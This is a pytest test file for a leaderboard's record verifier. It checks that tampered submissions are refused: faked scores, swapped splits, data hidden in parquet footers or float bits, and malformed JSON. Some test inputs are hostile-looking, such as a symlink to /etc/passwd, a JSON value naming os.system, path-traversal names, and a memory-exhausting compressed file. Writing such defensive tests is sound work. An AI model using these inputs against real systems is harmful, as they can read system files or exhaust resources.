        (LETTERS, _replace("tokens", _first(10**6)), "limit"),
        (LETTERS, _replace("tokens", _first(-1)), "tokens"),
        (LETTERS, _replace("tokens", _first(0)), "and 0 tokens"),
        (LETTERS, _replace("output", _first("9" * 10**6)), "characters"),
        (LETTERS, lambda table: pa.concat_tables([table, table]), "do not match its"),
        (STRAWBERRY, _replace("turn", lambda turns: [1 - turn for turn in turns]), "do not match its"),
        (STRAWBERRY, lambda table: table.take(pa.array(np.arange(len(table))[::-1])), "do not match its"),
    ],
)  # fmt: skip
def test_impossible_observations_are_refused(
    record: Path, records: Path, file: str, change: Callable[[pa.Table], pa.Table], message: str
) -> None:
    rewrite(record / file, change)
    assert message in reason(resign(record, records), records)


def _continued(record: Path) -> None:
    """Makes the reads of a record continuations, none of which is written."""

    def change(table: pa.Table) -> pa.Table:
        table = replace_column(table, "gold_token", lambda _: table["gold"].to_pylist())
        return replace_column(table, "argmax", lambda values: [-1] * len(values))

    for file in (VAL, SPARSE, DENSE):
        rewrite(record / file, change)
    edit(record / "run.json", _set("data/tasks/flipflop/rendering/answers", "continuations"))
    edit(record / "run.json", lambda facts: facts | {"command": f"{facts['command']} --exact-continuations"})


def _sure(written: int) -> Callable[[pa.Table], pa.Table]:
    """Makes the first read nearly certain of the first symbol, with another one written."""

    def change(table: pa.Table) -> pa.Table:
        return _replace("argmax", _first(written))(_replace("logprobs", _first([-0.01, -9.0]))(table))

    return change


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda table: table, ""),
        (_sure(0), ""),
        (_sure(-1), "is not the written one"),
        (_sure(1), "is not the written one"),
        (_replace("argmax", _first(2)), "scored as continuations"),
        (_replace("argmax", _first(-2)), "outside its range"),
        (_replace("gold_token", lambda values: [one + 1 for one in values]), "scored as continuations"),
        (_replace("logprobs", _first([-2e4, -1.0])), "below -10,000"),
        (_replace("logprobs", _first([-0.1, -0.1])), "sum to"),
    ],
)
def test_impossible_continuations_are_refused(
    record: Path, records: Path, change: Callable[[pa.Table], pa.Table], message: str
) -> None:
    _continued(record)
    rewrite(record / VAL, change)
    make_consistent(record)
    assert (
        message in reason(resign(record, records), records)
        if message
        else verify_record(resign(record, records)).accepted
    )


@pytest.mark.parametrize(
    ("written", "line", "message"),
    [
        (0, [-0.01, -9.0], ""),
        (-1, [-0.01, -9.0], "is not the written one"),
        (1, [-0.01, -9.0], "is not the written one"),
        (0, [-1.0, -2e4], "below -10,000"),
    ],
)
def test_impossible_choices_are_refused(
    record: Path, records: Path, written: int, line: list[float], message: str
) -> None:
    """Two candidates have these log-probabilities, the others very low ones."""
    rewrite(record / CAPITALS, _replace("written", _first(written)))
    rewrite(record / CAPITALS, _replace("logprobs", lambda lists: [line + [-99.0] * (len(lists[0]) - 2), *lists[1:]]))
    make_consistent(record)
    assert (
        message in reason(resign(record, records), records)
        if message
        else verify_record(resign(record, records)).accepted
    )


def test_too_low_logprobs_are_refused(record: Path, records: Path) -> None:
    rewrite(record / VAL, _replace("logprobs", _first([-2e5, -5.0])))
    assert "below -100,000" in reason(resign(record, records), records)


def test_ties_always_broken_for_the_target_are_refused(record: Path, records: Path) -> None:
    """Both symbols are equally probable, and argmax is always the target."""

    def tied(table: pa.Table) -> pa.Table:
        table = replace_column(table, "logprobs", lambda lists: [[-0.7, -0.7]] * len(lists))
        return replace_column(table, "argmax", lambda _: table["gold_token"].to_pylist())

    for split in (VAL, SPARSE, VAL.replace("val", "val_dense")):
        rewrite(record / split, tied)
    make_consistent(record)
    assert "equally probable" in reason(resign(record, records), records)


def test_accepted_record_stays_accepted(record: Path, records: Path) -> None:
    """A later copy of an accepted record is a remark, not a refusal."""
    other = records / "draft"
    shutil.copytree(record, other)
    edit(other / "submission.json", lambda facts: facts | {"disclosure": "Sent again."})
    folder = resign(other, records)
    assert "has the same outputs as" in reason(folder, records)
    verdict = verify_record(record, records, new=False)
    assert verdict.accepted and any(folder.name in remark for remark in verdict.remarks)


def test_nulls_are_refused(record: Path, records: Path) -> None:
    table = pq.read_table(record / LETTERS)
    place = table.schema.get_field_index("output")
    holes = pa.array([None, *table["output"].to_pylist()[1:]], pa.string())
    pq.write_table(table.set_column(place, "output", holes), record / LETTERS)
    assert "nulls" in reason(resign(record, records), records)


def test_invalid_utf8_output_is_refused(record: Path, records: Path) -> None:
    table = pq.read_table(record / LETTERS)
    broken = pa.array([b"\xff\xfe"] * len(table), pa.binary())
    broken = pa.Array.from_buffers(pa.string(), len(table), broken.buffers())
    place = table.schema.get_field_index("output")
    pq.write_table(table.set_column(place, "output", broken), record / LETTERS)
    assert "cannot be read" in reason(resign(record, records), records)


def test_swapped_splits_are_refused(record: Path, records: Path) -> None:
    (record / VAL).rename(record / "other")
    (record / SPARSE).rename(record / VAL)
    (record / "other").rename(record / SPARSE)
    assert "do not match its" in reason(resign(record, records), records)


def test_improved_answer_with_old_scores_is_refused(record: Path, records: Path) -> None:
    rewrite(record / LETTERS, _replace("output", lambda texts: ["3", *texts[1:]]))
    rewrite(record / LETTERS, _replace("tokens", _first(2)))
    assert "result.json: accuracy of letters.test is 0.0, and" in reason(resign(record, records), records)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda result: result["scores"][0].update(value=0.999), "the observations give"),
        (lambda result: result["scores"][0].update(n=10**6), "the observations give"),
        (lambda result: result["scores"][0].update(value="1.0"), "the observations give"),
        (lambda result: result["scores"].pop(), "number of scores differs"),
        (lambda result: result["scores"].append(result["scores"][0]), "number of scores differs"),
        (lambda result: result.update(scores={}), "number of scores differs"),
        (lambda result: result.update(note=MARKUP), "unknown fields"),
        (lambda result: result["model"].update(id="someone/better"), "result.json, model"),
        (lambda result: result["environment"].update(device="H200"), "result.json, environment"),
        (lambda result: [result], "not a JSON object"),
    ],
)
def test_changed_result_json_is_refused(
    record: Path, records: Path, change: Callable[[Json], Any], message: str
) -> None:
    edit(record / "result.json", lambda result: changed if isinstance(changed := change(result), list) else None)
    assert message in reason(resign(record, records), records)


@pytest.mark.parametrize("file", ["run.json", "submission.json", "result.json"])
@pytest.mark.parametrize(
    "content",
    [
        b"", b"{", b"null", b"[]", b"\xff\xfe", b'{"schema": NaN}', b'{"schema": Infinity}', b'{"schema": 1e999}',
        b'{"schema": 1, "schema": 2}', b"[" * 100_000, b'{"a":' * 100_000, b"9" * 10_000, b"\x00" * 10_000,
        b'{"model": {"__class__": "os.system"}}', b'{"schema": "fflm-run/1"}', b"x" * (9 * 2**20),
    ],
)  # fmt: skip
def test_invalid_json_is_refused(record: Path, records: Path, file: str, content: bytes) -> None:
    (record / file).write_bytes(content)
    assert "its contents give" not in reason(resign_if_possible(record, records), records)


@pytest.mark.parametrize("file", ["run.json", "submission.json", "result.json", VAL, CAPITALS, LETTERS])
@pytest.mark.parametrize("part", [0.0, 0.3, 0.9, 0.99])
def test_truncated_files_are_refused(record: Path, records: Path, file: str, part: float) -> None:
    content = (record / file).read_bytes()
    (record / file).write_bytes(content[: int(len(content) * part)])
    assert "its contents give" not in reason(resign_if_possible(record, records), records)


@pytest.mark.parametrize("file", [VAL, CAPITALS, LETTERS])
def test_files_that_are_not_parquet_are_refused(record: Path, records: Path, file: str) -> None:
    content = (record / file).read_bytes()
    for other in (b"PAR1", b"PAR1PAR1", b"PK\x03\x04" + content, content[::-1], content[: len(content) // 2] * 2):
        (record / file).write_bytes(other)
        record = resign_if_possible(record, records)
        assert "its contents give" not in reason(record, records)


def _link(record: Path) -> None:
    (record / VAL).unlink()
    (record / VAL).symlink_to("/etc/passwd")


def _linked_folder(record: Path) -> None:
    (record / "observations").rename(record.parent / "elsewhere")
    (record / "observations").symlink_to(record.parent / "elsewhere")


def _link_in_place(record: Path) -> None:
    record.rename(record.with_name("elsewhere"))
    record.symlink_to(record.with_name("elsewhere"))


def _many(record: Path) -> None:
    for number in range(200):
        (record / f"{number}.json").write_text("{}")


def _deep(record: Path) -> None:
    (record / "/".join(["observations"] * 20)).mkdir(parents=True)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (_link, "is a link"),
        (_linked_folder, "is a link"),
        (_link_in_place, "the folder does not exist"),
        (lambda record: os.mkfifo(record / "pipe"), "not a regular file"),
        (lambda record: (record / "note.txt").write_text("hello"), "has unknown files: 'note.txt'"),
        (lambda record: (record / ".hidden").write_text("hello"), "has unknown files: '.hidden'"),
        (lambda record: (record / "weights.pkl").write_bytes(b"\x80\x04."), "has unknown files: 'weights.pkl'"),
        (lambda record: (record / "observations" / "letters.train.parquet").write_bytes(b"PAR1"), "has unknown files"),
        (lambda record: (record / LETTERS).unlink(), "lacks 'observations/letters.test.parquet'"),
        (lambda record: (record / "result.json").unlink(), "lacks 'result.json'"),
        (lambda record: (record / "submission.json").unlink(), "submission.json is missing"),
        (lambda record: (record / "run.json").unlink(), "run.json is missing"),
        (_many, "more than 64 files"),
        (_deep, "too deep"),
        (lambda record: (record / "empty").mkdir(), "the folder 'empty' is empty"),
        (lambda record: [(record / str(number)).mkdir() for number in range(70)], "more than 64 files"),
        (lambda record: (record / f"{MARKUP[:8]}.json").write_text("{}"), "has unknown files"),
    ],
)  # fmt: skip
def test_unexpected_files_are_refused(record: Path, records: Path, change: Callable[[Path], Any], message: str) -> None:
    change(record)
    verdict = verify_record(record, records)
    assert message in verdict.reasons[0]


@pytest.mark.parametrize("name", ["0" * 12, "../x", MARKUP.replace("/", "")])
def test_renamed_folder_is_refused(record: Path, records: Path, name: str) -> None:
    other = record.parent / Path(name).name
    record.rename(other)
    assert "its contents give" in reason(other, records)


def test_too_large_files_are_refused(record: Path, records: Path) -> None:
    with (record / VAL).open("r+b") as file:
        file.truncate(2**40)  # of which nothing is on the disk
    assert "the limit is" in verify_record(record, records).reasons[0]


@pytest.mark.parametrize("file", ["run.json", "submission.json", "result.json"])
@pytest.mark.parametrize(
    "change", [lambda text: text + " " * 100, lambda text: text.replace("\n", "\r\n"), lambda text: " " + text]
)
def test_json_with_other_formatting_is_refused(
    record: Path, records: Path, file: str, change: Callable[[str], str]
) -> None:
    (record / file).write_bytes(change((record / file).read_text(encoding="utf-8")).encode())
    assert "is not formatted as" in reason(resign(record, records), records)


def _with_hole(table: pa.Table, path: Path) -> None:
    """Inserts bytes between the columns and the footer, which readers ignore."""
    _plainly(table, path)
    content = path.read_bytes()
    footer = 8 + int.from_bytes(content[-8:-4], "little")
    path.write_bytes(content[:-footer] + b"hidden" * 100 + content[-footer:])


def _field_note(table: pa.Table) -> pa.Table:
    return table.cast(pa.schema([field.with_metadata({"note": "hidden"}) for field in table.schema]))


def _usual(table: pa.Table) -> dict[str, Any]:
    """Returns the encodings of our writer."""
    usual: dict[str, Any] = {"compression": "zstd", "compression_level": 9, "write_statistics": False}
    if "logprobs" in table.schema.names:
        counters = {name: "DELTA_BINARY_PACKED" for name in ("id", "position", "gap") if name in table.schema.names}
        names = ("gold", "gold_token", "argmax", "written")
        usual["use_dictionary"] = [name for name in names if name in table.schema.names]
        usual["column_encoding"] = counters | {"logprobs.list.element": "BYTE_STREAM_SPLIT"}
    return usual


def _plainly(table: pa.Table, path: Path, **other: Any) -> None:
    """Writes a table in those encodings, except for `other` options of the writer."""
    pq.write_table(table, path, **(_usual(table) | other))


def _with_note(table: pa.Table, path: Path, note: bytes) -> None:
    """Writes a table whose Arrow schema in the footer differs from its columns."""
    with pq.ParquetWriter(path, table.schema, **_usual(table), store_schema=False) as writer:
        writer.write_table(table)
        writer.add_key_value_metadata({"ARROW:schema": note})


def _hidden_schema(table: pa.Table, path: Path) -> None:
    """Appends a text to the Arrow schema in the footer, of which readers use the types only."""
    note = base64.b64decode(pq.read_metadata(path).metadata[b"ARROW:schema"])
    _with_note(table, path, base64.b64encode(note + b"hidden text"))


def _noted_schema(table: pa.Table, path: Path) -> None:
    """Adds metadata to the Arrow schema."""
    note = table.schema.with_metadata({"note": "hidden"}).serialize().to_pybytes()
    _with_note(table, path, base64.b64encode(note))


def _unused_entries(table: pa.Table, path: Path) -> None:
    """Writes a dictionary with entries that no row uses."""
    note = pq.read_metadata(path).metadata[b"ARROW:schema"]
    place = table.schema.get_field_index("output")
    own = table["output"].combine_chunks().dictionary_encode()
    entries = pa.concat_arrays([own.dictionary, pa.array([f"hidden {one}" for one in range(500)])])
    _with_note(table.set_column(place, "output", pa.DictionaryArray.from_arrays(own.indices, entries)), path, note)


def _magic(sign: bytes) -> Callable[[pa.Table, Path], None]:
    """Changes the first bytes, which readers ignore."""

    def write(table: pa.Table, path: Path) -> None:
        _plainly(table, path)
        path.write_bytes(sign + path.read_bytes()[4:])

    return write


def _with_option(**other: Any) -> Callable[[pa.Table, Path], None]:
    return lambda table, path: _plainly(table, path, **other)


@pytest.mark.parametrize(
    ("write", "message"),
    [
        (_plainly, ""),
        (lambda table, path: _plainly(_field_note(table), path), "metadata on them"),
        (lambda table, path: _plainly(table.replace_schema_metadata({"note": "hidden"}), path), "metadata"),
        (_with_option(store_schema=False), "metadata"),
        (_with_option(write_page_index=True), "outside its columns"),
        (_with_hole, "outside its columns"),
        (_hidden_schema, "its schema has extra metadata"),
        (_noted_schema, "metadata on them"),
        (_magic(b"MZ\x90\x00"), "is not a parquet file"),
        (_magic(b"#!/b"), "is not a parquet file"),
        (_with_option(compression="gzip", compression_level=None), ", expected "),
        (_with_option(compression="none", compression_level=None), ", expected "),
        (_with_option(row_group_size=3), "row groups"),
        (_with_option(write_statistics=True), ", expected "),
    ],
)
@pytest.mark.parametrize("file", [DENSE, LETTERS])
def test_tables_with_hidden_content_are_refused(
    record: Path, records: Path, file: str, write: Callable[[pa.Table, Path], Any], message: str
) -> None:
    write(pq.read_table(record / file), record / file)
    verdict = verify_record(resign(record, records), records)
    assert message in "".join(verdict.reasons) and bool(verdict.reasons) == bool(message)


def test_unused_dictionary_values_are_refused(record: Path, records: Path) -> None:
    _unused_entries(pq.read_table(record / LETTERS), record / LETTERS)
    assert pq.read_table(record / LETTERS).schema.equals(observations.COMPLETIONS)
    assert "its column 'output' has" in reason(resign(record, records), records)


def _of_another_version(monkeypatch: pytest.MonkeyPatch, **changed: Any) -> None:
    """Writes tables with another compression level from now on, like another version."""
    usual = pq.ParquetWriter

    def write(*arguments: Any, **options: Any) -> Any:
        return usual(*arguments, **(options | changed))

    monkeypatch.setattr(observation_tables.pq, "ParquetWriter", write)


def test_tables_by_another_zstd_version_are_accepted(
    record: Path, records: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Pages differ by a few bytes; hidden content needs more."""
    _of_another_version(monkeypatch, compression_level=12)
    assert verify_unchanged(record, records).reasons == ()
    _unused_entries(pq.read_table(record / LETTERS), record / LETTERS)
    assert ", expected " in reason(resign(record, records), records)


def test_tables_by_another_pyarrow_version_are_accepted(
    record: Path, records: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Earlier versions write another name in the footer and pages of other sizes."""

    def rename(path: Path) -> None:
        content = path.read_bytes()
        name = f"parquet-cpp-arrow version {pa.__version__}".encode()
        path.write_bytes(content.replace(name, name[:-1] + bytes([48 + (name[-1] - 47) % 10])))

    for path in (record / "observations").iterdir():
        _plainly(pq.read_table(path), path, data_page_version="1.0", compression_level=8)
        rename(path)
    record = resign(record, records)
    assert verify_unchanged(record, records).reasons == ()
    whole = (record / VAL).read_bytes()
    _hidden_schema(pq.read_table(record / VAL), record / VAL)
    rename(record / VAL)
    record = resign(record, records)
    assert "its schema has extra metadata" in reason(record, records)
    (record / VAL).write_bytes(whole)
    _unused_entries(pq.read_table(record / LETTERS), record / LETTERS)
    rename(record / LETTERS)
    assert ", expected " in reason(resign(record, records), records)


@pytest.mark.parametrize("rows", [1, 5_000])
def test_row_groups_of_a_submitted_table(tmp_path: Path, rows: int) -> None:
    """Row groups are windows of data rows, whatever the groups of the run."""
    schema = observations.COMPLETIONS
    columns = [range(rows), [0] * rows, [str(row) for row in range(rows)], [1] * rows]
    table = pa.Table.from_arrays(
        [pa.array(one, field.type) for one, field in zip(columns, schema, strict=False)], schema=schema
    )
    with observations.writing(tmp_path / "merged", schema) as writer:
        for first in range(0, rows, CHUNK_ROWS):
            writer.write_table(table.slice(first, CHUNK_ROWS))
    observations.write_whole(tmp_path / "whole", pa.concat_tables([table.slice(0, 1), table.slice(1)]))
    assert (tmp_path / "whole").read_bytes() == (tmp_path / "merged").read_bytes()


@pytest.mark.parametrize(
    ("file", "value"), [(VAL, [-1.00001, -2.0]), (CAPITALS, -7.000001), (DENSE, [-1.0, -2.0 - 2.0**-17])]
)
def test_unrounded_logprobs_are_refused(record: Path, records: Path, file: str, value: Any) -> None:
    """The last bits of numbers could carry hidden content."""
    table = pq.read_table(record / file)
    first = value if isinstance(value, list) else [value, *table["logprobs"][0].as_py()[1:]]
    _plainly(replace_column(table, "logprobs", _first(first)), record / file)
    assert "not multiples" in reason(resign(record, records), records)


def _renumbered(table: pa.Table) -> pa.Table:
    """Changes the token ids of the symbols consistently."""
    others = {token: 10**6 + token for token in table["gold_token"].to_pylist()}
    for name in ("gold_token", "argmax"):
        table = replace_column(table, name, lambda ids: [others.get(one, one) for one in ids])
    return table


@pytest.mark.parametrize(
    ("vocabulary", "change", "message"),
    [
        (None, lambda table: table, ""),
        (None, _replace("argmax", _first(2**31 - 1)), "vocabulary has"),
        (10**6, _replace("argmax", _first(10**6)), "the token id 1,000,000, and the vocabulary has"),
        (10**6, _renumbered, "vocabulary has 1,000,000"),
        (2, lambda table: table, "vocabulary has 2"),
        (10**9, lambda table: table, "vocabulary"),
    ],
)
def test_token_ids_outside_the_vocabulary(
    record: Path, records: Path, vocabulary: int | None, change: Callable[[pa.Table], pa.Table], message: str
) -> None:
    """With the vocabulary in run.json, and without, as in earlier versions."""
    edit(record / "run.json", _model(vocabulary=vocabulary) if vocabulary else _without_vocabulary)
    for file in (VAL, SPARSE, DENSE):
        rewrite(record / file, change)
    make_consistent(record)
    verdict = verify_record(resign(record, records), records)
    assert message in "".join(verdict.reasons) and bool(verdict.reasons) == bool(message)


def _without_vocabulary(facts: Json) -> None:
    del facts["model"]["vocabulary"]


def test_first_tokens_outside_the_vocabulary(record: Path, records: Path) -> None:
    edit(record / "run.json", _set("data/tasks/letters/rendering/first_tokens", [1, 99_999_999]))
    make_consistent(record)
    assert "letters.test has the token id 99,999,999" in reason(resign(record, records), records)


def bomb(schema: pa.Schema, rows: int, path: Path, text: str = "") -> None:
    """A small file that is large in memory: one repeated value."""
    size = min(rows, 10**6)
    columns = []
    for field in schema:
        if pa.types.is_string(field.type):
            columns.append(pa.DictionaryArray.from_arrays(pa.array(np.zeros(size, np.int32)), pa.array([text])))
        elif pa.types.is_list(field.type) or pa.types.is_fixed_size_list(field.type):
            columns.append(pa.FixedSizeListArray.from_arrays(pa.array(np.zeros(2 * size, np.float32)), type=field.type))
        else:
            columns.append(pa.array(np.zeros(size, field.type.to_pandas_dtype())))
    table = pa.Table.from_arrays(columns, names=schema.names)
    with pq.ParquetWriter(path, table.schema, compression="zstd") as writer:
        for _ in range(rows // size):
            writer.write_table(table)


def test_too_many_rows_are_refused(record: Path, records: Path) -> None:
    bomb(pq.read_schema(record / VAL), 10**7, record / VAL)
    assert (record / VAL).stat().st_size < 10**6
    assert "10,000,000 rows" in reason(resign(record, records), records)


def test_memory_limit(record: Path, records: Path) -> None:
    """A million times the same megabyte: 1 TB of text in a file below 100 KB. Only the separate process ends."""
    bomb(pq.read_schema(record / LETTERS), 10**6, record / LETTERS, "x" * 2**20)
    assert (record / LETTERS).stat().st_size < 10**5
    verdict = verify_in_sandbox(resign(record, records), records)
    assert not verdict.accepted and verdict.reasons


def test_valid_record_in_sandbox(record: Path, records: Path) -> None:
    assert verify_in_sandbox(record, records) == verify_record(record, records)


def instead(monkeypatch: pytest.MonkeyPatch, program: str) -> None:
    """Replaces the verification program by another one."""
    root = str(Path(__file__).parents[2])
    monkeypatch.setattr(
        "harness.models.sandbox.command", lambda module, *words: [sys.executable, "-B", "-c", program, root, *words]
    )


def test_crashed_or_slow_process_is_a_refusal(record: Path, records: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """For every cause of the crash."""
    instead(monkeypatch, "import os; os.kill(os.getpid(), 9)")
    assert "by signal 9" in verify_in_sandbox(record, records).reasons[0]
    instead(monkeypatch, "import time; time.sleep(60)")
    monkeypatch.setattr("leaderboard.verification.sandbox.MOST_SECONDS", 1)
    assert "more than 1 seconds" in verify_in_sandbox(record, records).reasons[0]


@pytest.mark.parametrize(("error", "memory"), [("ZeroDivisionError", False), ("MemoryError", True)])
def test_failed_verification_is_a_refusal(
    record: Path, monkeypatch: pytest.MonkeyPatch, error: str, memory: bool
) -> None:
    program = (
        "import sys; sys.path[:0] = [sys.argv[1]]\nfrom leaderboard.verification import sandbox\n"
        f"def fail(*_, **__): raise {error}\nsandbox.verify_record = fail; sandbox.main(*sys.argv[2:])"
    )
    instead(monkeypatch, program)
    (message,) = verify_in_sandbox(record).reasons
    assert f"verification failed with {error}" in message and ("memory" in message) == memory
    instead(monkeypatch, "raise SystemExit(3)")
    assert "with status 3" in verify_in_sandbox(record).reasons[0]


def test_sandbox_has_no_write_access_and_no_token(
    record: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    program = (
        "import os, sys, json; sys.path[:0] = [sys.argv[1]]\n"
        "from leaderboard.verification import sandbox; sandbox._limit()\n"
        f"try:\n with open({str(tmp_path / 'written')!r}, 'w') as file: file.write('x'); file.flush(); said = 'wrote'\n"
        "except OSError: said = 'could not'\n"
        "print(json.dumps({'path': said, 'reasons': [str('HF_TOKEN' in os.environ)], 'remarks': []}))"
    )
    monkeypatch.setenv("HF_TOKEN", "hf_secret")
    instead(monkeypatch, program)
    verdict = verify_in_sandbox(record)
    assert (verdict.path, verdict.reasons) == ("could not", ("False",))


def test_verify_output_as_text_and_json(cli: Run, record: Path, records: Path) -> None:
    result = cli("harness", "verify", record)
    assert result.returncode == 0 and "accepted: local--tiny/" in result.stdout
    result = cli("harness", "verify", records, "--json")
    (verdict,) = json.loads(result.stdout)
    assert verdict["accepted"] and verdict["model"]["id"] == "local/tiny" and verdict["scores"]
    edit(record / "result.json", lambda value: value["scores"][0].update(value=1.0))
    record = resign(record, records)
    result = cli("harness", "verify", record)
    assert result.returncode == 1 and "refused" in result.stdout and "result.json" in result.stdout
    (verdict,) = json.loads(cli("harness", "verify", record, "--json").stdout)
    assert not verdict["accepted"] and verdict["reasons"]


def test_verify_without_records(cli: Run, tmp_path: Path) -> None:
    assert "is not a folder" in refused(cli("harness", "verify", tmp_path / "nowhere"))
    assert "no record" in refused(cli("harness", "verify", tmp_path))


# Valid runs.

TEMPLATE = "{% for one in messages %}[{{ one.role }}] {{ one.content }}\n{% endfor %}[assistant] "


def published(run: Path, records: Path) -> Path:
    """Returns the record of a run, as harness submit makes it."""
    edit(run / "run.json", public_facts)
    make_consistent(run)
    return make_record(run, records)


@pytest.fixture(scope="module")
def talking(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A model with a chat template, in a folder whose name is not a Hub name."""
    folder = models.save_tiny(tmp_path_factory.mktemp("talking") / "tiny--chat.", models.gpt2_like())
    (folder / "chat_template.jinja").write_text(TEMPLATE, encoding="utf-8")
    return folder


@pytest.mark.parametrize(
    "options",
    [
        ["--task", "letters", "--task", "letters", "--strict"],
        ["--task", "letters", "--shots", "1", "--dtype", "float32", "--batch-size", "1"],
        ["--task", "letters", "--chat", "off", "--attention", "eager"],
        ["--task", "letters", "--chat", "on", "--system", "Be (very) brief; it's late."],
        ["--task", "letters", "--chat", "on", "--system", "Be brief.\n\nRules:\n\t- one number\n- no more"],
        ["--task", "letters", "--dtype", "bfloat16", "--thinking", "0"],
        ["--task", "strawberry", "--challenges", "0"],
        ["--task", "flipflop-prose", "--exact-continuations"],
    ],
)
def test_commands_with_options_are_accepted(talking: Path, tmp_path: Path, records: Path, options: list[str]) -> None:
    arguments = ["--model", str(talking), *options, "--limit", "1", "--output", str(tmp_path / "runs")]
    assert main(["eval", *arguments]) == 0
    record = published(only_run(tmp_path / "runs").folder, records)
    assert verify_unchanged(record, records).reasons == ()


def test_command_without_options_is_accepted(tmp_path: Path, records: Path) -> None:
    """A suite, some of whose tasks the model can answer."""
    assert main(["eval", "--output", str(tmp_path / "runs")]) == 0
    (folder,) = (tmp_path / "runs").glob("fflm--lstm/*")
    record = published(folder, records)
    assert json.loads((record / "run.json").read_text("utf-8"))["left_out"]
    assert verify_unchanged(record, records).reasons == ()
    edit(record / "run.json", lambda facts: facts["left_out"].popitem() and None)
    assert "the tasks of its suite differ" in reason(resign(record, records), records)


COMMIT = "0123456789abcdef" * 2 + "01234567"
LORA = {"id": "local/lora", "revision": COMMIT}
HUB = {"id": "org/model", "revision": COMMIT}


@pytest.mark.parametrize(
    ("model", "options", "message"),
    [
        ({"compiled": True}, "--model tiny --compile", ""),
        ({"adapter": LORA}, "--model tiny --adapter ./lora", ""),
        ({"adapter": LORA}, "--model tiny --adapter ./other", "its adapter"),
        ({"adapter": LORA | {"id": "org/lora"}}, "--model tiny --adapter org/lora", ""),
        ({"adapter": LORA | {"id": "org/lora"}}, "--model tiny --adapter org/lora@v1", ""),
        ({"adapter": LORA | {"id": "org/lora"}}, f"--model tiny --adapter org/lora@{COMMIT}", ""),
        ({"adapter": LORA | {"id": "org/lora"}}, f"--model tiny --adapter org/lora@{'1' * 40}", "its revision"),
        ({"adapter": LORA}, "--model tiny", "its adapter"),
        (HUB, f"--model org/model --revision {COMMIT}", ""),
        (HUB, f"--model org/model --revision {COMMIT[:8]}", ""),
        (HUB, "--model org/model --revision main", ""),
        (HUB, "--model org/model --revision 20240131", ""),
        (HUB, "--model org/model --revision 0123457a", "its revision"),
        (HUB, f"--model org/model --revision {'1' * 40}", "its revision"),
        (HUB, "--model org/other", "its model"),
        ({"gguf_file": "a/b.Q4.gguf", "id": "local/b.Q4"}, "--model some/folder --gguf-file a/b.Q4.gguf", ""),
        ({"gguf_file": "a/b.Q4.gguf"}, "--model tiny --gguf-file a/b.Q4.gguf", "its model"),
        ({"id": "local/my-model"}, "--model 'files/my model'", ""),
        ({"quantization": "4bit"}, "--model tiny --quantization 4bit", ""),
    ],
)
def test_model_names_in_commands(record: Path, records: Path, model: Json, options: str, message: str) -> None:
    edit(record / "run.json", _both(_model(**model), _command("--model tiny", options)))
    make_consistent(record)
    record = resign(record, records)
    assert message in reason(record, records) if message else verify_unchanged(record, records).reasons == ()


@pytest.fixture(scope="module")
def external(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("supplied")
    run = external_run(folder, "--system", "Be brief.", "--limit", "20").folder
    edit(run / "run.json", public_facts)
    make_consistent(run)
    return run


@pytest.mark.parametrize("options", [(), ("--chat", "off", "--shots", "2")])
def test_external_outputs_are_accepted(tmp_path: Path, records: Path, options: tuple[str, ...]) -> None:
    record = published(external_run(tmp_path, *options, "--limit", "5").folder, records)
    assert verify_unchanged(record, records).reasons == ()


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (_model(dtype="float32"), "no other model fields"),
        (_model(parameters=7), "no other model fields"),
        (_model(strict=True), "no other model fields"),
        (_set("left_out", {"strawberry": "no"}), "no other model fields"),
        (_set("environment/torch", "2.0"), "no environment"),
        (_set("environment/device", "cpu"), "no environment"),
        (_letters(prompting={"template": "0" * 64}), "does not write"),
        (_letters(prompting={"thinking": 5}), "does not write"),
        (_letters(prompting={"opened": True}), "does not write"),
        (_letters(prompting={"switch": "thinking"}), "does not write"),
        (_letters(prompting={"template": None}), "options of a chat template"),
        (_letters(rendering={"answers": "text", "first_tokens": [1], "first_token_is_bos": False}), "a rendering"),
        (_command("--system 'Be brief.'", ""), "not a command"),
        (_command(" --system 'Be brief.'", ""), "--system"),
        (_command("prompts.jsonl", "out/prompts.jsonl"), "must be a file name"),
        (_command("prompts.jsonl", ".prompts"), "must be a file name"),
        (_command("prompts.jsonl", "../prompts"), "local path"),
    ],
)
def test_external_outputs_with_extra_fields_are_refused(
    external: Path, records: Path, change: Callable[[Json], Any], message: str
) -> None:
    record = make_record(external, records)
    usual = json.loads((record / "run.json").read_text("utf-8"))["data"]["tasks"]["letters"]["prompting"]

    def changed(facts: Json) -> None:
        asked = facts["data"]["tasks"]["letters"]
        asked["prompting"] = usual | asked["prompting"]

    edit(record / "run.json", change)
    edit(record / "run.json", _both(changed, with_id))
    assert message in reason(resign_if_possible(record, records), records)


@pytest.mark.parametrize("name", ["flipflop", "capitals", "strawberry"])
def test_tasks_without_external_outputs(record: Path, records: Path, name: str) -> None:
    """Tasks with log-probabilities or turns, labelled as external outputs."""

    def change(facts: Json) -> None:
        facts |= {"outputs": "supplied", "command": f"harness prompts --task {name} --out prompts.jsonl"}
        model = {name: facts["model"][name] for name in ("id", "revision")}
        facts |= {"model": {**model, "parameters": 0, "dtype": "supplied"}}
        facts["environment"] = {"fflm": facts["environment"]["fflm"], "device": "supplied"}
        facts["data"]["tasks"] = {name: facts["data"]["tasks"][name]}
        facts["data"]["tasks"][name].pop("rendering")

    edit(record / "run.json", change)
    for path in (record / "observations").iterdir():
        path.unlink() if not path.name.startswith(f"{name}.") else None
    make_consistent(record)
    assert f"{name} cannot have external outputs" in reason(resign(record, records), records)


@pytest.mark.parametrize(
    ("name", "called"),
    [
        ("model-", "model"), ("my model--v1 \u00e9", "my-model-v1"), ("a..b", "a.b"), ("...", "model"), ("", "model"),
        (".hidden", "hidden"), ("x" * 95 + "-yz", "x" * 95), ("Smol-135M-Instruct.Q4_1", "Smol-135M-Instruct.Q4_1"),
    ],
)  # fmt: skip
def test_model_names_of_folders(name: str, called: str) -> None:
    assert local_id(name) == f"local/{called}"
